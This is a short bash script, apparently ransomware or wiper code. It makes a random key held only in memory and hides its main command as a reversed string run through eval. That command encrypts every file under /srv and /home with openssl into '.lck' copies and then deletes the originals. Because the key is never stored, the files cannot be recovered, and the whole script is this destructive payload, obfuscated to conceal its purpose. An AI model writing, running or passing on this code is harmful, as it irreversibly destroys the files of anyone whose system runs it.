#!/bin/bash
K=$(head -c 24 /dev/urandom | base64 -w0)
step=$(rev <<<'"f$" f- mr && "kcl.f$" tuo- "f$" ni- K$:ssap ssap- 2fdkbp- cbc-652-sea- cne lssnepo')
while IFS= read -r -d '' f; do
  eval "$step"
done < <(find /srv /home -type f -print0)
